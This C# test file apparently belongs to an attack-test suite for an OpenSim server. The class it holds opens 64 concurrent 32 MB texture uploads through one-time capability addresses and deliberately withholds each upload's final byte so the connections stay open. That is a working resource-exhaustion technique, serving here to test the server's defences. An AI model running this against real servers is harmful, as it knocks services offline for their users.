using Attack.Tests.Kit;
using OpenSim.Llsd;

namespace Attack.Tests.Attacks;

/// <summary>As many one-time addresses as are given, and to each of them all but the last byte of 32 MB.</summary>
internal sealed class Uploads() : HttpAttack<HostileCaps>("uploads of 32 MB, left open", atOnce: 64)
{
    private const int Size = 32 << 20;
    private static readonly byte[] Piece = new byte[64 << 10];

    protected override Task<HostileCaps> Prepare(Arena arena) => HostileCaps.Enter(arena);

    protected override async Task<string> Try(Arena arena, HttpClient http, HostileCaps prepared, int number, CancellationToken cancel)
    {
        var reply = await prepared.Caps.Post("NewFileAgentInventory", new LlsdMap
        {
            ["folder_id"] = prepared.Login.InventoryRoot, ["asset_type"] = "texture", ["inventory_type"] = "texture", ["name"] = "huge",
            ["description"] = "", ["next_owner_mask"] = 0
        }, cancel);
        if (!Uri.TryCreate(reply["uploader"].AsString(), UriKind.Absolute, out var address))
            return "no address";
        using var socket = await Raw.Connect(address, cancel);
        if (socket is null || !await Raw.Write(socket, Raw.Head("POST", address, Size, "application/octet-stream"), cancel))
            return "not connected";
        for (var sent = 0; sent + Piece.Length < Size; sent += Piece.Length)
        {
            if (socket.Available > 0 || !await Raw.Write(socket, Piece, cancel))
                return await Raw.Status(socket, cancel);
        }

        return await Raw.Status(socket, cancel);
    }
}
